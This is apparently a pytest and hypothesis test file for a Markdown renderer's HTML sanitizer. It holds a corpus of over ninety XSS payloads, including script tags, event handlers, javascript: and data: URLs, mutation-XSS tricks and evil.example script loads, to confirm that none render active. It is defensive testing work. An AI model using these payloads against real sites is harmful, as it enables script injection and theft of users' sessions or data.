"""Whatever is typed, nothing active comes out: a corpus of attacks and random texts, looked at tag by tag."""

import re
from contextlib import suppress
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.core.markdown import MarkdownRefused, fill_items, render
from portal.core.markdown_cleaner import TAGS

ATTRIBUTES = {
    "a": r"href|title|class|rel|data-item|data-anchor",
    "img": r"src|alt|title|width|height",
    "td": r"align",
    "th": r"align",
    "ol": r"start",
    "code": r"class",
    "div": r"class",
    "p": r"class",
    "li": r"class|id",
    "sup": r"id",
    "span": r"class",
    "input": r"type|disabled|checked|aria-label",
    **dict.fromkeys(("h1", "h2", "h3", "h4", "h5", "h6"), "id"),
}
VALUES = {
    "id": r"h-.+|fn-\d+|fnref\d*-\d+",
    "src": r"/files/\d+(/[\w.-]+)?",
    "href": r"(?i:https?://|mailto:).+|#.+|(?![a-z][a-z0-9+.-]*:|[\\/]{2}).+",
    "data-item": r"[1-9]\d*",
    "class": r"(admonition|note|tip|important|warning|danger|footnote|admonition-title|footnote-ref|footnote-backref"
    r"|task|gone|language-[a-z0-9_+#-]+| )+",
    "type": r"checkbox",
    "aria-label": r"done|to do",
}
EMPTY = {"br", "hr", "img", "input"}


class Inspector(HTMLParser):
    """Reads HTML as a DOM would, and refuses what is not on the lists above."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | {"input"}, tag
        for name, value in attrs:
            assert re.fullmatch(ATTRIBUTES.get(tag, "nothing"), name), (tag, name)
            assert re.fullmatch(VALUES.get(name, r"(?s:.*)"), value or ""), (name, value)
            assert not re.search(r"[\x00-\x1f]", value or "") or name not in {"href", "src"}
        if tag == "input":
            assert ("disabled", None) in attrs
        self.ids += [value or "" for name, value in attrs if name == "id"]
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(source: str) -> None:
    rendered = render(source)
    Inspector(rendered.html)
    Inspector(fill_items(rendered.html, {}))
    Inspector(fill_items(rendered.html, dict.fromkeys(rendered.item_ids, ("/x/1?a&b", 'T"><script>alert(1)</script>'))))


ATTACKS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script
>alert(1)</script
>
a <script>alert(1)</script> b
<img src=x onerror=alert(1)>
a <img src=x onerror=alert(1)> b
<img src="javascript:alert(1)">
<img src="/files/7" onload="alert(1)" style="x:y" srcset="https://evil.example/x">
<img src="/files/7/../../logout">
<img src="//evil.example/x.png">
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>
<input type=text autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<select><option onclick=alert(1)>
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div style="background:url(javascript:alert(1))">x</div>
<div id=search-box class="modal open" name=x>x</div>
<h2 id="main" onclick=alert(1)>x</h2>
<li id="main">x</li>
<p hx-get="/admin" hx-trigger="load" hx-on:click="alert(1)">x</p>
<div data-hx-post="/logout" x-init="alert(1)" v-html="x" @click="alert(1)">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" java&#x0A;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)" target=_blank ping=//evil.example>x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="\\evil.example">x</a>
<a data-item="12" data-anchor="x" href="/y">x</a>
<a href="item:12" onclick=alert(1) title="</a><script>alert(1)</script>">x</a>
<a href='item:12#"><script>alert(1)</script>'>x</a>
<span class="gone" data-item=3>x</span>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](\u006aavascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:alert(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](https://x.example" onclick="alert(1))
[x](/y "t" onclick="alert(1)")
[x](/y '"><script>alert(1)</script>')
![x](javascript:alert(1))
![x" onerror="alert(1)](/files/7)
![x](/files/7" onerror="alert(1))
![<script>alert(1)</script>](https://evil.example/x.png)
<javascript:alert(1)>
<https://x.example/"onclick=alert(1)>
https://x.example/"onmouseover="alert(1)
https://x.example/<script>alert(1)</script>
mailto:a@b.example"onclick=alert(1)
[x]: javascript:alert(1)
[[12|<script>alert(1)</script>]]
[[12|"><img src=x onerror=alert(1)>]]
[[12#"onclick=alert(1)]]
[<script>alert(1)</script>](item:12)
# <script>alert(1)</script>
# <img src=x onerror=alert(1)> "onclick=alert(1)
!!! note "<script>alert(1)</script>"
!!! note onclick=alert(1)
> [!NOTE] <script>alert(1)</script>
``` "><script>alert(1)</script>
```x onclick=alert(1)
| <script>alert(1)</script> | "onclick=alert(1) |
[^<script>alert(1)</script>]: <script>alert(1)</script>
- [ ] <input type=text onfocus=alert(1)>
<!-- <script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo '<script>alert(1)</script>' ?>
<a<script>alert(1)</script>>
<<script>alert(1);//<</script>
<div title="
<pre><code><script>alert(1)</script></code></pre>
{{7*7}} ${alert(1)} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}
&lt;script&gt;alert(1)&lt;/script&gt;
<b><script>alert(1)</script>
<table><td background=javascript:alert(1) onclick=alert(1)>x
<a href="/x"><table><td><a href="javascript:alert(1)">x
""".strip().split("\n")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "before\n{}\n\nafter", "- {}", "> {}", "[^1]\n\n[^1]: {}", "<div>\n{}"])
def test_no_attack_comes_through(attack: str, around: str) -> None:
    inspect(around.format(attack) if around != "{}" else attack)


def test_the_corpus_is_large_and_works_as_one_text() -> None:
    assert len(ATTACKS) > 90
    inspect("\n".join(ATTACKS))
    inspect("\n\n".join(ATTACKS))


@pytest.mark.parametrize("sign", ["\x00", "\x02", "\x03", "\ufdd0", "\ufdd4", "\ufdef", "\ud800"])
def test_inner_signs_cannot_be_typed(sign: str) -> None:
    for source in (f"# a{sign}b", f"{sign}wzxhzdk:0{sign}", f"{sign}klzzwxh:0000{sign} *x* <b>", f"- {sign}1\ufdd1 x"):
        html = render(source).html
        assert sign not in html
        assert "\ufffd" in html
        assert "<input" not in html


@pytest.mark.parametrize("tag", ["title", "textarea", "script", "style", "template", "iframe", "first name", "!-- x"])
def test_no_tag_swallows_what_follows(tag: str) -> None:
    for source in (f"Dear <{tag}> one\n\n*after*", f"<div>\n<{tag}>\n\n*after*", f"<{tag}>\n\n*after*"):
        assert "<em>after</em>" in render(source).html


def test_words_in_angle_brackets_stay_readable() -> None:
    assert render("Hi <first name>, this is <me>.").html == "<p>Hi &lt;first name&gt;, this is &lt;me&gt;.</p>"


TOKENS = r"""
<script> </script> <a href=" javascript: onerror= <img src=' "> > < </a> <div <!-- --> ]]> <![CDATA[ <? &#x3c; &lt; & ;
[ ] ( ) ![ ]( [[12 [[12]] |x]] item:3 file:4 [^1] [^1]: [a]: ` `` ``` ~~~ ~~ * ** _ __ *** \ # ## --- === - + 1. > {{ é
[!NOTE] !!! | |-|-| http:// https://x.example mailto:a@b.c <table> <td> </td> <details> <pre> </pre> [x]
"""
SPACES = ["\n", "\n\n", " ", "    ", "\t", "  \n", "\r\n"]
FRAGMENTS = st.one_of(st.sampled_from(TOKENS.split()), st.sampled_from(SPACES), st.text(max_size=4))
TEXTS = st.lists(FRAGMENTS, max_size=60).map("".join)
THOROUGH = settings(max_examples=400, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


@THOROUGH
@given(TEXTS)
def test_markdown_never_yields_an_active_tag(source: str) -> None:
    with suppress(MarkdownRefused):
        inspect(source)


@THOROUGH
@given(TEXTS)
def test_any_text_answers_with_sections_that_tile_it(source: str) -> None:
    try:
        rendered = render(source)
    except MarkdownRefused:
        return
    places = [place for part in rendered.sections for place in (part.start, part.end)]
    assert places == sorted(places)
    assert places[0] == 0
    assert places[-1] == len(source)
    assert all(before.end == after.start for before, after in pairwise(rendered.sections))
    assert all(f' id="{part.anchor}">' in rendered.html for part in rendered.sections[1:])
    assert not re.search("[\x02\x03\ufdd0-\ufdef]", rendered.html + "".join(part.text for part in rendered.sections))
    assert render(source) == rendered
